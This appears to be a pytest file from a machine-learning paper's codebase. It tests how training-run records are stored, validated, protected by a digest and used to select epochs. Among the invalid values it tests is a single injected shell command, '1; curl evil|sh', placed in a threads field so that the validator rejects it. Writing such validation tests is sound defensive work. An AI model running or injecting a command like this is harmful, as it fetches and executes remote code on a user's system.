"""Records are written at once, found by their spec and checked when read; both selection rules give their results."""

import json
import os
import re
from dataclasses import asdict

import pytest
import torch
from helpers import filled, refusal

from stn_paper.analysis import frame
from stn_paper.errors import InputError
from stn_paper.paths import results_dir
from stn_paper.training import hardware, records
from stn_paper.training.protocol import BEST_OF_FIVE, BEST_VALIDATION
from stn_paper.training.record_fields import RECORD
from stn_paper.training.spec import RunSpec

SPEC = RunSpec("caltech101", "resnet18", "lstn", "reduced")


def epochs(*accuracies):
    """Epochs with these (validation, test) accuracies."""
    losses = {"train_loss": 1.0, "validation_loss": 1.0, "test_loss": 1.0}
    return [losses | {"validation_accuracy": v, "test_accuracy": t} for v, t in accuracies]


def record(made=None):
    made = epochs((50, 40), (60, 41)) if made is None else made
    return filled(SPEC) | {
        "parameters": 5,
        "epochs": made,
        "stopped": "early",
        "selected": records.select_by_test(made) if made else {},
    }


@pytest.mark.parametrize(
    "protocol, fast, changed", [("small", 0, True), ("small", 1, False), ("equal", 0, False)]
)
def test_only_small_falls_back_to_float32_where_bfloat16_is_slow(protocol, fast, changed, monkeypatch):
    monkeypatch.setattr(hardware, "is_fast_in_bfloat16", lambda device: bool(fast))
    spec = RunSpec("caltech101", "resnet18", "lstn", protocol)
    fitted = records.fit_precision(spec, torch.device("cpu"))
    assert fitted.changes == ({"precision": "tf32"} if changed else {})
    assert records.fit_precision(fitted, torch.device("cpu")) == fitted


def test_a_run_with_a_record_keeps_its_precision(monkeypatch):
    monkeypatch.setattr(hardware, "is_fast_in_bfloat16", lambda device: False)
    monkeypatch.setattr(records, "find", lambda spec: {})
    spec = RunSpec("caltech101", "resnet18", "lstn", "small")
    assert records.fit_precision(spec, torch.device("cpu")) == spec


def test_a_written_record_is_found():
    assert records.find(SPEC) is None
    path = records.write_record(SPEC, record())
    assert path == records.record_path(SPEC) == results_dir() / f"caltech101/{SPEC.name}.json"
    assert records.find(SPEC) == {"schema": 1, "spec": asdict(SPEC), **record()}
    assert list(path.parent.iterdir()) == [path]  # no half file beside it


def test_another_seed_is_not_found():
    records.write_record(SPEC, record())
    assert records.find(RunSpec("caltech101", "resnet18", "lstn", "reduced", seed=1)) is None


def test_a_record_under_another_runs_name_is_not_that_run():
    other = RunSpec("caltech101", "resnet18", "lstn", "reduced", seed=1)
    records.write_record(SPEC, record()).rename(records.record_path(other))
    with pytest.raises(InputError, match=r"is damaged \(spec\)"):
        records.find(other)


def test_smoke_records_lie_apart():
    smoke = RunSpec("digits", "resnet18", "stn", "smoke")
    assert records.write_record(smoke, record()).parent == results_dir() / "smoke"
    assert len(frame.runs("digits", "smoke")) == 1 and frame.runs("digits").empty
    records.write_record(RunSpec("mnist-rts", "resnet18", "stn", "smoke"), record())
    assert frame.runs("mnist", "smoke").empty


def damage(change):
    """Write a record, change its text, read it, and return the error."""
    path = records.write_record(SPEC, record())
    path.write_text(change(path.read_text()))
    with pytest.raises(InputError) as error:
        records.find(SPEC)
    assert str(path) in str(error.value) and "\n" not in str(error.value)
    return str(error.value)


FIELDS = [field for field in RECORD if field[-1] != "?"]


@pytest.mark.parametrize("field", FIELDS)
def test_a_missing_field_is_named(field):
    def drop(text):
        return json.dumps({k: v for k, v in json.loads(text).items() if k != field})

    assert f"({field}" in damage(drop)


@pytest.mark.parametrize("field", FIELDS)
def test_a_field_of_the_wrong_type_is_noticed(field):
    assert f"({field})" in damage(lambda text: json.dumps(json.loads(text) | {field: None}))


@pytest.mark.parametrize("field", records.EPOCH_FIELDS)
def test_a_missing_epoch_field_is_named(field):
    assert f"{field})" in damage(lambda text: text.replace(f'"{field}"', '"other"'))


@pytest.mark.parametrize(
    "change",
    [
        lambda text: text[: len(text) // 2],
        lambda text: "",
        lambda text: "[]",
        lambda text: "3",
        lambda text: text.replace("60", '"60"'),
        lambda text: json.dumps(json.loads(text) | {"epochs": [1, 2]}),
        lambda text: json.dumps(json.loads(text) | {"epochs": []}),
    ],
    ids=["half", "empty", "list", "number", "text for a number", "epochs of numbers", "no epochs"],
)
def test_a_damaged_record_is_named(change):
    assert "is damaged" in damage(change)


def changed(*place, value):
    """Return a function that puts another value at this place of a record's text."""

    def change(text):
        part = whole = json.loads(text)
        for key in place[:-1]:
            part = part[key]
        part[place[-1]] = value
        return json.dumps(whole)

    return change


@pytest.mark.parametrize(
    ("named", "place", "values"),
    [
        ("parameters", ("parameters",), [0, -5]),
        ("epochs.0.test_loss", ("epochs", 0, "test_loss"), ["1", None, 1.7e308, -1]),
        ("epochs.0.test_accuracy", ("epochs", 0, "test_accuracy"), [-1, 100.1, "50"]),
        ("epochs.1.train_accuracy", ("epochs", 1, "train_accuracy"), [101]),
        ("stopped", ("stopped",), ["budget", "killed", ""]),  # the protocol's 20 epochs are not used up
        ("measured.seconds", ("measured", "seconds"), ["9", None, -1, 10**400, True]),
        ("measured.seconds", ("measured",), [{}]),
        ("environment.commit", ("environment", "commit"), [3, None]),
        ("environment.device", ("environment", "device"), [["a CPU"], "\ud800"]),
        ("environment.device", ("environment",), [{"commit": ""}]),
        ("environment.threads", ("environment", "threads"), ["1; curl evil|sh", 0]),
        ("data.train", ("data", "train"), ["24", 0, 1.5]),
        ("epochs.0.theta.mean", ("epochs", 0, "theta"), [{"mean": [1.0], "std": [0.0] * 6}]),
        ("probes.images", ("probes",), [{}]),
        ("spec.protocol", ("spec", "protocol"), ["reduced", [], None]),
        ("spec.protocol.name", ("spec", "protocol"), [{}]),
        ("JSON", ("epochs", 0, "test_loss"), [float("nan"), float("inf")]),
        ("JSON", ("data", "classes"), [float("nan")]),
    ],
)
def test_a_value_that_no_run_gives_is_named(named, place, values):
    for value in values:
        assert f"({named})" in damage(changed(*place, value=value)), value


def test_an_infinite_number_is_named():
    assert "(epochs.0.test_loss)" in damage(
        lambda text: text.replace('"test_loss": 1.0', '"test_loss": 1e999')
    )


def test_a_used_up_budget_is_no_fault():
    made = record(epochs(*[(50, 40)] * SPEC.protocol.max_epochs)) | {"stopped": "budget"}
    records.write_record(SPEC, made)
    assert records.find(SPEC)["stopped"] == "budget"


@pytest.mark.parametrize(
    ("place", "value", "named"),
    [
        (("spec", "protocol", "warmup"), 5, "'warmup'"),
        (("spec", "machine"), "a", "'machine'"),
        (("spec", "image_size"), 64, "'image_size'"),  # a setting of the protocol
        (("spec", "protocol", "seed"), 0, "'seed'"),  # no setting of the protocol
        (("schema",), 2, "Schema 2 "),
        (("spec", "backbone"), "resnet19", "'resnet19'"),
        (("spec", "seed"), -1, "Seed -1 "),
        (("spec", "protocol", "tolerance"), 10**400, "tolerance 1000"),
        (("spec", "protocol", "padding"), 10**400, "padding 1000"),
        (("spec", "protocol", "selection"), "best", "'best': .*last-epoch"),
        (("spec", "protocol", "schedule"), None, "None: .*one-cycle"),
    ],
)
def test_a_record_of_other_code_is_not_called_damaged(place, value, named):
    path = records.write_record(SPEC, record())
    path.write_text(changed(*place, value=value)(path.read_text()))
    for reading in (frame.records_by_name, lambda: records.read_named_record(path)):
        message = refusal(reading)
        assert str(path) in message and re.search(named, message) and "delete" not in message
    with pytest.raises(InputError, match=named):
        records.spec_of(json.loads(path.read_text()))


def test_the_committed_records_pass(committed):
    assert len(frame.records_by_name()) >= 203


def test_a_changed_selection_is_noticed():
    def raise_test_accuracy(text):
        changed = json.loads(text)
        changed["selected"][BEST_VALIDATION]["test"] += 1
        return json.dumps(changed)

    assert "(selected)" in damage(raise_test_accuracy)


def once(**changes):
    """A record of a protocol that evaluates the test images once."""
    spec = RunSpec("caltech101", "resnet18", "original", "small")
    row = {"train_loss": 1.0, "validation_loss": 1.0, "validation_accuracy": 50.0}
    last = spec.protocol.max_epochs
    test = {"loss": 1.0, "accuracy": 40.0, "class_accuracy": 30.0, "correct": ""}
    made = record(epochs((50, 40))) | {"epochs": [row] * last, "stopped": "budget", "test": test}
    made["selected"] = {"last-epoch": {"epoch": last, "validation": 50.0, "test": 40.0}}
    return records.write_record(spec, made | changes)


def test_a_record_of_one_test_needs_no_test_curve():
    read = records.read_record(once())
    assert records.selected_result(read) | {"epoch": 0} == {"epoch": 0, "validation": 50.0, "test": 40.0}


@pytest.mark.parametrize("field", ["loss", "accuracy", "class_accuracy", "correct"])
def test_each_field_of_the_one_test_is_needed(field):
    whole = json.loads(once().read_text())["test"]
    path = once(test={name: value for name, value in whole.items() if name != field})
    with pytest.raises(InputError, match=rf"\(test\.{field}\)"):
        records.read_record(path)


def test_a_changed_one_test_is_noticed():
    test = json.loads(once().read_text())["test"]
    with pytest.raises(InputError, match=r"\(selected\)"):
        records.read_record(once(test=test | {"accuracy": 41.0}))
    with pytest.raises(InputError, match=r"\(test\.class_accuracy\)"):
        records.read_record(once(test=test | {"class_accuracy": 101.0}))


@pytest.mark.parametrize("text", ["[" * 10**5, '{"a":' * 10**5, "[" * 10**5 + "]" * 10**5])
def test_json_that_is_nested_without_end_is_named(text):
    assert "(JSON)" in damage(lambda _: text)


@pytest.mark.parametrize("kind", ["folder", "pipe", "broken link", "link to itself", "too large"])
def test_a_path_that_is_no_record_file_is_named(kind):
    path = records.record_path(SPEC)
    path.parent.mkdir(parents=True)
    if kind == "too large":
        path.touch()
        os.truncate(path, records.LARGEST_RECORD + 1)
    else:
        make = {"folder": path.mkdir, "pipe": lambda: os.mkfifo(path)}
        make.get(kind, lambda: path.symlink_to(path.name if kind == "link to itself" else "nowhere"))()
    with pytest.raises(InputError, match=re.escape(str(path))):
        frame.records_by_name()


def test_a_changed_number_is_told_by_the_digest():
    assert "(digest)" in damage(changed("epochs", 0, "test_loss", value=1.5))
    assert "(digest)" in damage(changed("environment", "commit", value="other"))
    assert "(digest)" in damage(changed("digest", value="0" * 16))


def test_spaces_and_order_of_fields_are_no_content():
    path = records.write_record(SPEC, record())
    path.write_text(json.dumps(dict(reversed(json.loads(path.read_text()).items()))))
    assert records.find(SPEC) == {"schema": 1, "spec": asdict(SPEC), **record()}


def test_a_record_without_a_digest_is_read():
    path = records.write_record(SPEC, record())
    read = records.find(SPEC)
    path.write_text("".join(line for line in path.read_text().splitlines(True) if '"digest"' not in line))
    assert records.find(SPEC) == read


def test_bytes_that_are_no_text_are_named():
    path = records.write_record(SPEC, record())
    path.write_bytes(b"\xff\xfe{")
    with pytest.raises(InputError, match="is damaged"):
        records.find(SPEC)


def test_best_validation_takes_the_first_of_equals():
    chosen = records.select_by_test(epochs((50, 1), (70, 2), (70, 3), (60, 4)))
    assert chosen[BEST_VALIDATION] == {"epoch": 2, "validation": 70, "test": 2}


def test_best_of_five_looks_at_five_epochs_only():
    validation_and_test = [(60, 99), (70, 1), (69, 2), (68, 8), (67, 3), (66, 8), (10, 98)]
    chosen = records.select_by_test(epochs(*validation_and_test))
    assert chosen[BEST_OF_FIVE] == {"epoch": 4, "validation": 70, "test": 8}
    assert chosen[BEST_VALIDATION] == {"epoch": 2, "validation": 70, "test": 1}


def test_the_fifth_best_epoch_still_counts():
    chosen = records.select_by_test(epochs((70, 1), (69, 2), (68, 3), (67, 4), (66, 5), (65, 6)))
    assert chosen[BEST_OF_FIVE]["epoch"] == 5


def test_both_rules_select_the_only_epoch():
    only = {"epoch": 1, "validation": 50, "test": 40}
    assert records.select_by_test(epochs((50, 40))) == {BEST_VALIDATION: only, BEST_OF_FIVE: only}


@pytest.mark.parametrize(
    ("typed", "command"),
    [
        (["/somewhere/stn_paper/__main__.py", "run", "digits"], "python -m stn_paper run digits"),
        (["/usr/bin/stn-paper", "run", "a b"], "stn-paper run 'a b'"),
        (["/x/ipykernel_launcher.py", "-f", "/tmp/kernel.json"], "a notebook"),
    ],
)
def test_a_record_has_the_command_that_was_typed(monkeypatch, typed, command):
    monkeypatch.setattr("sys.argv", typed)
    environment = hardware.environment(torch.device("cpu"))
    assert environment["command"] == command
